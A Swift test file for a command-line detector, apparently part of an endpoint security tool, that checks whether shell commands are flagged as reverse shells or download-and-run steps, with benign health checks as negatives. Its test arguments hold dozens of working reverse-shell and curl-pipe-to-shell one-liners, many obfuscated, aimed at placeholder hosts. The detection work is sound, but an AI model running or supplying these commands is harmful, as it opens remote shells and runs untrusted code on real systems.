import Posture
import Testing

@testable import Allowlist

/// Command lines as arguments of `sh -c`, or of their own.
struct ShapeTests {
    private func findings(_ arguments: [String]) -> [CommandFinding.Shape] {
        var view = StartView(exampleStart("/usr/bin/" + arguments[0], arguments), content: .init())
        return view.findings().map(\.shape)
    }

    @Test(arguments: [
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
        "/bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1",
        "sh -i >& /dev/udp/10.0.0.1/4242 0>&1",
        "nc -e /bin/sh 10.0.0.1 4242",
        "nc 10.0.0.1 4242 -e /bin/bash",
        "nc -nlvpe 4444 /bin/sh; nc -lvp 4444 -e sh",
        "ncat --exec /bin/bash 10.0.0.1 4242",
        "ncat 10.0.0.1 4242 --sh-exec 'bash -i'",
        "nc -c bash 10.0.0.1 4242",
        "/usr/bin/env nc  -e   /bin/sh 10.0.0.1 4242",
        "timeout 60 nohup setsid nc -e /bin/sh 10.0.0.1 4242 &",
        "busybox nc 10.0.0.1 4242 -e sh",
        "n'c' -e /bin/sh 10.0.0.1 4242",
        "n\\c -e /bin/sh 10.0.0.1 4242",
        "nc${IFS}-e${IFS}/bin/sh${IFS}10.0.0.1${IFS}4242",
        "nc$IFS$9-e$IFS$9/bin/sh$IFS$9h$IFS$91",
        "{nc,-e,/bin/sh,10.0.0.1,4242}",
        "$'\\x6e\\x63' -e /bin/sh 10.0.0.1 4242",
        "a=nc; b=/bin/sh; $a -e $b 10.0.0.1 4242",
        "c='nc -e /bin/sh 10.0.0.1 1'; $c",
        "b$@ash -i >& /dev/tcp/10.0.0.1/1 0>&1",
        "/bin/b?sh -i >& /dev/tcp/10.0.0.1/1 0>&1",
        "sh -c \"bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'\"",
        "eval \"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\"",
        "socat TCP:10.0.0.1:4242 EXEC:/bin/sh",
        "socat tcp-connect:10.0.0.1:4242 exec:'bash -li',pty,stderr",
        "socat openssl-connect:h:1,verify=0 system:bash",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
        "mknod backpipe p; telnet 10.0.0.1 4242 0<backpipe | /bin/bash 1>backpipe",
        "telnet 10.0.0.1 1 | /bin/sh | telnet 10.0.0.1 2",
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:1 > /tmp/s",
        "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
        "python -c 'import socket,subprocess;s=socket.socket();s.connect((\"h\",1));subprocess.call([\"/bin/sh\",\"-i\"],stdin=s)'",
        "perl -e 'use Socket;$i=\"h\";socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
        "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"h:1\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
        "ruby -rsocket -e'f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
        "php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "node -e 'require(\"child_process\").exec(\"nc\");var n=require(\"net\").connect(1)'",
        "awk 'BEGIN{s=\"/inet/tcp/0/h/1\";while(1){do{s|&getline c;while((c|&getline)>0)print $0|&s}while(c!=\"exit\")}}'",
        "lua5.3 -e 'local s=require(\"socket\").tcp();s:connect(\"h\",1);io.popen(s:receive())'",
        "echo 'bash -i >& /dev/tcp/h/1 0>&1' | bash",
        "bash <<< 'nc -e /bin/sh h 1'",
        "su - nobody -c 'nc -e /bin/sh h 1'",
        "(crontab -l; echo x) | crontab - ; sh -c 'nc -e sh h 1'",
        "sh -i 2>&1 | nc 10.0.0.1 4242",
        "nc 10.0.0.1 4242 | sh",
        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
    ])
    func `a reverse shell is seen`(code: String) {
        #expect(findings(["sh", "-c", code]).contains(.reverseShell))
    }

    @Test(arguments: [
        "curl -fsSL http://h/x | sh", "curl http://h/x|bash", "wget -qO- http://h/x | sh",
        "wget -O - http://h/x|sudo -E bash -", "curl -s http://h/x | /usr/bin/env bash -s -- -y",
        "bash <(curl -s http://h/x)", "sh -c \"$(curl -fsSL http://h/x)\"",
        "eval \"$(wget -qO- http://h/x)\"", "source <(curl -s http://h/x)",
        ". <(curl -s http://h/x)",
        "eval `curl http://h/x`", "$(curl -s http://h/x)", "curl http://h/x | tac | tac | python3",
        "curl http://h/x | python3 -", "curl http://h/x | perl", "curl h/x | tee /tmp/l | sh",
        "echo aGk= | base64 -d | sh", "echo aGk=|base64 --decode|bash", "base64 -d <<< aGk= | sh",
        "bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i}", "xxd -r -p /tmp/x | sh",
        "bash <<< \"$(base64 -d <<< aGk=)\"",
        "c'u'rl http://h/x | s\\h", "curl${IFS}http://h/x|sh", "timeout 9 curl h/x | nohup sh &",
        "(curl -s http://h/x || wget -qO- http://h/x) | sh",
        "curl -o /tmp/x http://h/x && chmod +x /tmp/x && /tmp/x", "wget http://h/x.sh; sh x.sh",
        "cd /tmp; curl -O http://h/a; chmod 777 a; ./a", "curl h/x > /dev/shm/.x; bash /dev/shm/.x",
        "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://h/x\").read())'",
        "python -c \"exec(__import__('base64').b64decode('aGk='))\"",
        "perl -MMIME::Base64 -e 'eval(decode_base64(\"aGk=\"))'",
        "php -r 'eval(file_get_contents(\"http://h/x\"));'",
        "ruby -ropen-uri -e 'eval(URI.open(\"http://h/x\").read)'",
        "sh -c 'sh -c \"curl h/x | sh\"'", "busybox wget -qO- http://h/x | busybox sh",
        "openssl enc -base64 -d -in /tmp/x | bash", "curl h/x | sudo sh",
        "while true; do curl -s h/x | sh; sleep 60; done",
    ])
    func `a download that is run is seen`(code: String) {
        #expect(findings(["sh", "-c", code]).contains(.downloadThenRun))
    }

    @Test(arguments: [
        ["nc", "-e", "/bin/sh", "h", "1"], ["socat", "TCP:h:1", "EXEC:sh"],
        ["busybox", "nc", "h", "1", "-e", "sh"], ["env", "X=1", "bash", "-c", "nc -e sh h 1"],
        ["env", "-S", "nc -e sh h 1"], ["perl", "-MSocket", "-e", "socket(S);exec('/bin/sh')"],
        ["bash", "-lc", "bash -i >& /dev/tcp/h/1 0>&1"],
        ["python3.11", "-c", "import pty;pty.spawn('sh')"],
        ["ld-linux-x86-64.so.2", "/bin/nc", "-e", "/bin/sh", "h", "1"],
        ["su", "-", "nobody", "-s", "/bin/sh", "-c", "nc -e sh h 1"],
    ])
    func `arguments by themselves are seen`(arguments: [String]) {
        #expect(findings(arguments).contains(.reverseShell))
    }

    @Test(arguments: [
        // Health checks and probes.
        "curl -fsS http://localhost:8080/healthz", "curl -sf localhost/health || exit 1",
        "wget -q -O /dev/null http://127.0.0.1:9090/-/ready", "wget -qO- http://localhost/healthz",
        "nc -z localhost 5432", "nc -zv 10.0.0.1 443 -w 5", "echo ruok | nc localhost 2181",
        "echo ruok | timeout 2 nc -w 2 localhost 2181 | grep imok", "nc -w5 -z 127.0.0.1 25",
        "timeout 1 bash -c '</dev/tcp/127.0.0.1/10256'",
        "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
        "while ! nc -z db 5432; do sleep 1; done; exec \"$@\"",
        "exec 3<>/dev/tcp/localhost/80; echo -e 'GET / HTTP/1.0\\r\\n' >&3; cat <&3",
        "\"$JAVA_HOME\"/bin/java -jar a.jar & while ! </dev/tcp/localhost/8080; do sleep 1; done",
        "test \"$(curl -s -o /dev/null -w '%{http_code}' http://localhost)\" = 200",
        "x=$(curl -s localhost/health); [ \"$x\" = ok ]",
        "curl -s http://localhost:9200/_cluster/health | python3 -c 'import json,sys;sys.exit(json.load(sys.stdin)[\"status\"]==\"red\")'",
        "curl -s localhost/metrics | python3 -m json.tool", "curl -s localhost/x | jq -r .status",
        "curl -s localhost | perl -ne 'print if /up/'",
        "curl -s http://h/a.tar.gz | tar xz -C /opt",
        "python3 -c \"import socket; socket.create_connection(('localhost',80),2)\"",
        "python3 -c \"import urllib.request; urllib.request.urlopen('http://localhost:8000/health')\"",
        "python -c 'import sys,subprocess; print(subprocess.check_output([\"uname\"]))'",
        "redis-cli ping | grep PONG", "pg_isready -U postgres -h 127.0.0.1",
        "mysqladmin ping -h localhost -u root -p\"$MYSQL_ROOT_PASSWORD\"",
        "ETCDCTL_API=3 etcdctl --endpoints=https://[127.0.0.1]:2379 endpoint health",
        "/bin/grpc_health_probe -addr=:50051", "cat /proc/1/status | grep -q Uid",
        "openssl s_client -connect localhost:443 </dev/null 2>/dev/null | openssl x509 -noout -dates",
        "echo | openssl s_client -connect h:443 | openssl x509 -enddate",
        // Kubernetes and containers.
        "iptables-save | grep KUBE", "crictl ps -a | awk '{print $1}' | xargs -r crictl rm",
        "kubectl get nodes -o json | jq '.items[].metadata.name'",
        "source <(kubectl completion bash)",
        "kubectl get secret s -o jsonpath='{.data.p}' | base64 -d",
        "echo \"$TOKEN\" | base64 --decode > /run/t",
        "nsenter -t 1 -m -u -i -n -- sh -c 'systemctl restart kubelet'",
        "cp /opt/cni/bin/* /host/opt/cni/bin/ && sleep infinity",
        // Cron, package hooks, systemd.
        "cd / && run-parts --report /etc/cron.hourly",
        "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
        "[ -x /usr/lib/apt/apt.systemd.daily ] && /usr/lib/apt/apt.systemd.daily install",
        "if [ -x /usr/sbin/invoke-rc.d ]; then invoke-rc.d rsyslog rotate > /dev/null; fi",
        "/usr/lib/rsyslog/rsyslog-rotate", "for i in /etc/update-motd.d/*; do sh \"$i\"; done",
        "if test -x /usr/share/mdadm/checkarray; then /usr/share/mdadm/checkarray --cron --all; fi",
        "eval \"$(ssh-agent -s)\"", "eval `dircolors -b`", "eval $(systemctl show-environment)",
        "dpkg-query -W -f='${Status}' openssh-server | grep -q installed",
        "find /var/log -name '*.gz' -mtime +30 -print0 | xargs -0 rm -f",
        "ls /tmp | sh -c 'cat > /dev/null'",
        "find . -name '*.sh' -exec sh -c 'echo $1' _ {} \\;",
        "git -c core.sshCommand='ssh -i k' fetch origin",
        "ssh -o ProxyCommand='nc -X connect -x proxy:3128 %h %p' host true",
        "GIT_SSH_COMMAND='ssh -p 22' git pull && make install",
        "rsync -a -e ssh /srv/ backup:/srv/",
        "curl -fsSLo /usr/local/bin/tool https://h/tool && chmod +x /usr/local/bin/tool",
        "curl -fsSL https://h/key.asc | gpg --dearmor -o /usr/share/keyrings/h.gpg",
        "mkfifo /run/pipe; cat /run/pipe | logger -t app", "socat - UNIX-CONNECT:/run/haproxy.sock",
        "echo 'show stat' | socat stdio /var/run/haproxy.sock",
        "socat TCP-LISTEN:80,fork TCP:10.0.0.1:80",
        "telnet localhost 25 </dev/null | grep -q 220", "tar cf - /srv | nc backup 9000",
        "awk -F: '{print $1}' /etc/passwd", "perl -e 'print time'", "ruby -e 'puts 1'",
        "php -r 'echo 1;'",
        "node -e 'require(\"http\").get(\"http://localhost:3000/health\", r => process.exit(r.statusCode == 200 ? 0 : 1))'",
        "printf '%s' \"$X\" | sh -c 'read a; echo $a'",
        "base64 -d /etc/x.b64 | openssl x509 -noout",
        "cat > /etc/profile.d/x.sh <<EOF\ncurl h/x | sh\nEOF", "echo 'exit 0' | sh",
        "[ -p /run/p ] || mkfifo /run/p; exec sh /srv/run.sh", "logger -t cron 'curl h | sh'",
        "ps aux | grep 'nc -e' | grep -v grep", "bash -c 'set -o pipefail; date | tee /var/log/d'",
    ])
    func `what nodes run every day is no alarm`(code: String) {
        #expect(findings(["sh", "-c", code]) == [])
    }

    @Test(arguments: [
        ["bash", "-i"], ["sh"], ["bash", "/etc/cron.daily/x"], ["nc", "-z", "h", "1"],
        ["nc", "-c", "h", "443"], ["python3", "-m", "http.server"], ["python3"], ["env"],
        ["busybox"], ["busybox", "sh"], ["xargs", "-0", "sh"], ["sh", "-c", ""], ["sh", "-c"],
    ])
    func `harmless arguments are no alarm`(arguments: [String]) {
        #expect(!findings(arguments).contains(.reverseShell))
        #expect(!findings(arguments).contains(.downloadThenRun))
    }

    @Test func `code that is cut is not taken for harmless`() {
        var start = exampleStart(
            "/bin/sh", ["sh", "-c", "echo " + String(repeating: "x", count: 99)])
        start.argumentCount = 4
        var view = StartView(start, content: .init())
        #expect(view.findings().map(\.shape) == [.cut])
        start.arguments.append([])
        start.argumentCount = 9
        view = StartView(start, content: .init())
        #expect(view.findings() == [])
        start = exampleStart("/bin/sh", ["sh", "-c", String(repeating: "x", count: 70_000)])
        view = StartView(start, content: .init())
        #expect(view.findings().map(\.shape) == [.cut])
    }
}
